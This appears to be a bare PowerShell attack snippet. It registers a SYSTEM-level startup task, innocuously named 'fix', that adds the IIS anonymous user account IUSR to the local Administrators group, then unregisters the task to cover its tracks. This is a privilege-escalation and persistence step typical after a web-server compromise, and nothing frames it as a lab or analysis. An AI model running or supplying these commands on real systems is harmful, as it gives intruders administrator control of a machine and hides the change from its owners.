$a = New-ScheduledTaskAction -Execute 'cmd.exe' -Argument '/c net localgroup Administrators IUSR /add'
Register-ScheduledTask -TaskName fix -Action $a -Trigger (New-ScheduledTaskTrigger -AtStartup) -User SYSTEM
Unregister-ScheduledTask -TaskName fix -Confirm:$false
